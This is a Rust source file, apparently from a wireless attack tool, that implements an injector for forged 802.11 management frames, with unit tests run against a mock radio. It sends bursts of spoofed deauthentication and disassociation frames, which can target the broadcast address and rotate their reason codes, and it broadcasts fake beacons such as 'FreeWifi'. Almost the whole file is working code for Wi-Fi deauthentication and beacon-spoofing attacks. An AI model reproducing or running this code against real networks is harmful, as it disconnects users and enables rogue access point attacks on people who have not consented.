use crate::radio::RadioDriver;
use dot11::builder::{self, ReasonCode};
use dot11::elements::Ssid;
use dot11::mac::MacAddress;
use std::thread;
use std::time::Duration;

/// Reason codes rotated across deauthentication sends.
pub const DEAUTH_REASONS: [ReasonCode; 3] = [
    ReasonCode::Unspecified,
    ReasonCode::Inactivity,
    ReasonCode::Class3FromUnassociated,
];

/// Builds forged management frames and hands them to the radio.
///
/// Best effort: transmit failures are logged at `trace` and otherwise
/// ignored. Each send returns the number of frames the radio accepted.
pub struct FrameInjector {
    sequence: u16,
    reason: usize,
    burst: usize,
    burst_delay: Duration,
}

impl FrameInjector {
    pub fn new(burst: usize, burst_delay: Duration) -> Self {
        Self {
            sequence: 0,
            reason: 0,
            burst: burst.max(1),
            burst_delay,
        }
    }

    fn next_sequence(&mut self) -> u16 {
        let sequence = self.sequence;
        self.sequence = (self.sequence + 1) & 0x0FFF;
        sequence
    }

    fn next_reason(&mut self) -> ReasonCode {
        let reason = DEAUTH_REASONS[self.reason % DEAUTH_REASONS.len()];
        self.reason = (self.reason + 1) % DEAUTH_REASONS.len();
        reason
    }

    /// Deauthenticates `target` from the network `bssid`, sending a
    /// deauthentication and a disassociation frame per round of the burst.
    pub fn send_deauth<R: RadioDriver + ?Sized>(
        &mut self, radio: &mut R, target: MacAddress, bssid: MacAddress,
    ) -> usize {
        let mut sent = 0;
        for round in 0..self.burst {
            let reason = self.next_reason();

            let sequence = self.next_sequence();
            let frame = builder::deauthentication(target, bssid, bssid, sequence, reason);
            sent += transmit(radio, &frame);

            let sequence = self.next_sequence();
            let frame = builder::disassociation(target, bssid, bssid, sequence, reason);
            sent += transmit(radio, &frame);

            if round + 1 < self.burst && !self.burst_delay.is_zero() {
                thread::sleep(self.burst_delay);
            }
        }

        sent
    }

    pub fn broadcast_beacon<R: RadioDriver + ?Sized>(
        &mut self, radio: &mut R, ssid: &Ssid, bssid: MacAddress, channel: u8,
    ) -> usize {
        let sequence = self.next_sequence();
        let frame = builder::beacon(ssid, bssid, channel, sequence);
        transmit(radio, &frame)
    }

    pub fn send_probe_request<R: RadioDriver + ?Sized>(
        &mut self, radio: &mut R, ssid: &Ssid, source: MacAddress,
    ) -> usize {
        let sequence = self.next_sequence();
        let frame = builder::probe_request(ssid, source, sequence);
        transmit(radio, &frame)
    }
}

fn transmit<R: RadioDriver + ?Sized>(radio: &mut R, frame: &[u8]) -> usize {
    match radio.transmit(frame) {
        Ok(_) => 1,
        Err(err) => {
            log::trace!("Transmit failed: {err}");
            0
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::MockRadio;
    use dot11::classify::{Classification, classify};

    fn bssid() -> MacAddress {
        MacAddress::try_from("66:77:88:99:AA:BB").unwrap()
    }

    #[test]
    fn test_deauth_burst() {
        let mut radio = MockRadio::default();
        let mut injector = FrameInjector::new(3, Duration::ZERO);

        let sent = injector.send_deauth(&mut radio, MacAddress::BROADCAST, bssid());
        assert_eq!(sent, 6);

        let frames = radio.transmitted();
        assert_eq!(frames.len(), 6);
        for (index, frame) in frames.iter().enumerate() {
            assert_eq!(frame.len(), builder::DEAUTHENTICATION_LENGTH_BYTES);
            let subtype = if index % 2 == 0 { 0xC0 } else { 0xA0 };
            assert_eq!(frame[0], subtype);
        }

        // Reasons rotate per round: 1, 4, 7.
        let reasons: Vec<u8> = frames.iter().step_by(2).map(|frame| frame[24]).collect();
        assert_eq!(reasons, vec![1, 4, 7]);
    }

    #[test]
    fn test_sequence_numbers_advance() {
        let mut radio = MockRadio::default();
        let mut injector = FrameInjector::new(1, Duration::ZERO);

        injector.broadcast_beacon(&mut radio, &Ssid::from("A"), bssid(), 1);
        injector.broadcast_beacon(&mut radio, &Ssid::from("A"), bssid(), 1);

        let frames = radio.transmitted();
        assert_eq!(&frames[0][22..24], &[0x00, 0x00]);
        assert_eq!(&frames[1][22..24], &[0x10, 0x00]);
    }

    #[test]
    fn test_beacon_on_channel() {
        let mut radio = MockRadio::default();
        let mut injector = FrameInjector::new(1, Duration::ZERO);

        assert_eq!(injector.broadcast_beacon(&mut radio, &Ssid::from("FreeWifi"), bssid(), 11), 1);

        let frame = &radio.transmitted()[0];
        match classify(frame, frame.len()) {
            Classification::Beacon(advertisement) => {
                assert_eq!(advertisement.ssid, Ssid::from("FreeWifi"));
                assert_eq!(advertisement.channel, Some(11));
            },
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn test_transmit_failure_is_silent() {
        let mut radio = MockRadio::default();
        radio.fail_transmit(true);
        let mut injector = FrameInjector::new(2, Duration::ZERO);

        assert_eq!(injector.send_deauth(&mut radio, MacAddress::BROADCAST, bssid()), 0);
        assert_eq!(injector.send_probe_request(&mut radio, &Ssid::from("x"), bssid()), 0);
        assert!(radio.transmitted().is_empty());
    }
}
